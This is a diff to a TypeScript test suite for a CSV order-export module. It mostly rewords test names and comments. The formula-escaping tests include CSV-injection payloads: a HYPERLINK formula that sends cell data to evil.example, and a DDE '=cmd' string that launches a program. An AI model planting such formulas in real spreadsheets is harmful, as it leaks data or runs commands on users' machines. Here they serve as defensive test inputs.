@@ -7,7 +7,7 @@ import type { OrderToExport } from '#server/db/order-lists.ts';
 import { amountCell, csvHeads, csvLines, textCell } from './order-csv.ts';
 import { propertyRuns } from '#domain/testing-runs.ts';
 
-/** Reads CSV by RFC 4180, and by nothing that the writer knows. */
+/** Parses CSV by RFC 4180, independently of the writer. */
 function parseCsv(text: string): string[][] {
   const rows: string[][] = [];
   let row: string[] = [];
@@ -68,7 +68,7 @@ const row = (change: Partial<OrderToExport> = {}): OrderToExport => ({
   ...change,
 });
 
-/** One order as a spreadsheet reads it, by its heads. */
+/** Reads one order as a spreadsheet does, by header. */
 function readBack(change: Partial<OrderToExport>): Record<string, string> {
   const [cells = [], ...rest] = parseCsv(csvLines([row(change)], 'https://till.example'));
   expect(rest).toEqual([]);
@@ -76,13 +76,13 @@ function readBack(change: Partial<OrderToExport>): Record<string, string> {
   return Object.fromEntries(HEADS.map((head, place) => [head, cells[place] ?? '']));
 }
 
-test('a file begins with what spreadsheets tell its letters by, and its lines end as they expect', () => {
+test('starts with a byte order mark and ends lines with CRLF', () => {
   expect(csvHeads().startsWith('\ufeffNumber,Date (UTC),')).toBe(true);
   expect(csvHeads().endsWith('\r\n')).toBe(true);
   expect(csvLines([row(), row()], '').split('\r\n')).toHaveLength(3);
 });
 
-test('an order is one line with all that its books say', () => {
+test('writes an order as one row with all its columns', () => {
   expect(readBack({})).toEqual({
     Number: '7',
     'Date (UTC)': '2026-11-20T14:12:00.000Z',
@@ -111,14 +111,14 @@ test('an order is one line with all that its books say', () => {
   });
 });
 
-test('amounts have the digits of their currency, and never lose a part of one', () => {
+test('formats amounts with the digits of their currency without losing a fraction', () => {
   expect(amountCell(0, 'USD')).toBe('0.00');
   expect(amountCell(5, 'USD')).toBe('0.05');
   expect(amountCell(-1234, 'EUR')).toBe('-12.34');
   expect(amountCell(500, 'JPY')).toBe('500');
   expect(amountCell(12_345, 'KWD')).toBe('12.345');
   expect(amountCell(99_999_999, 'USD')).toBe('999999.99');
-  // Two decimals at the provider, none for people.
+  // Stripe uses two decimals for this currency, and people use none.
   expect(amountCell(500, 'ISK')).toBe('5');
   expect(amountCell(550, 'ISK')).toBe('5.50');
 });
@@ -147,7 +147,7 @@ const HOSTILE = [
   '=HYPERLINK("https://evil.example?x="&A1,"click")',
 ];
 
-test('nobody’s name is a formula', () => {
+test('escapes formulas in names', () => {
   for (const name of HOSTILE) {
     const cell = readBack({ buyerName: name }).Buyer ?? '';
     expect([name, cell.startsWith("'")]).toEqual([name, true]);
@@ -158,7 +158,7 @@ test('nobody’s name is a formula', () => {
 });
 
 test.for(["A;=cmd|' /C calc'!A0", 'A; =1+1', 'A;"=1+1', 'A;\t@x', 'A;;-1', 'A\t;＝1'])(
-  'a name is no formula where semicolons separate cells: %j',
+  'escapes formulas behind semicolons: %j',
   (name) => {
     const cells = textCell(name).split(';').slice(1);
     expect(cells.length).toBeGreaterThan(0);
@@ -167,11 +167,11 @@ test.for(["A;=cmd|' /C calc'!A0", 'A; =1+1', 'A;"=1+1', 'A;\t@x', 'A;;-1', 'A\t;
   },
 );
 
-test('semicolons and commas in a name stay as they are where no formula follows', () => {
+test('leaves semicolons and commas without a formula unchanged', () => {
   expect(textCell('Cups; plates, -5% off')).toBe('"Cups; plates, -5% off"');
 });
 
-test('each question has a column after ours, and hostile ones are cells like others', () => {
+test('adds a column for each custom field and escapes hostile labels and answers', () => {
   const columns = [
     { id: 'a', label: '=HYPERLINK("https://evil.example")' },
     { id: 'b', label: 'Email' },
@@ -205,12 +205,12 @@ test('each question has a column after ours, and hostile ones are cells like oth
   ]);
 });
 
-test('a name stays on its line', () => {
+test('keeps a name on one line', () => {
   expect(readBack({ buyerName: 'Ann\r\nBob\u2028Cid\u0085Dee' }).Buyer).toBe('Ann Bob Cid Dee');
   expect(readBack({ buyerName: 'a'.repeat(10_000) }).Buyer).toHaveLength(10_000);
 });
 
-/** What no spreadsheet may take for a formula, written down for itself. */
+/** Beginnings that spreadsheets read as a formula, defined independently of the code under test. */
 const startsFormula = (cell: string): boolean => '=+-@\t\r\n＝＋－＠'.includes(cell.charAt(0)) && cell !== '';
 
 const anyText = fc.oneof(
@@ -222,7 +222,7 @@ const anyText = fc.oneof(
   }),
 );
 
-test('whatever people are called, a spreadsheet reads back what is stored', () => {
+test('reads back the stored text from a spreadsheet for any name', () => {
   fc.assert(
     fc.property(anyText, anyText, anyText, (buyerName, productName, couponCode) => {
       const read = readBack({ buyerName, productName, couponCode });
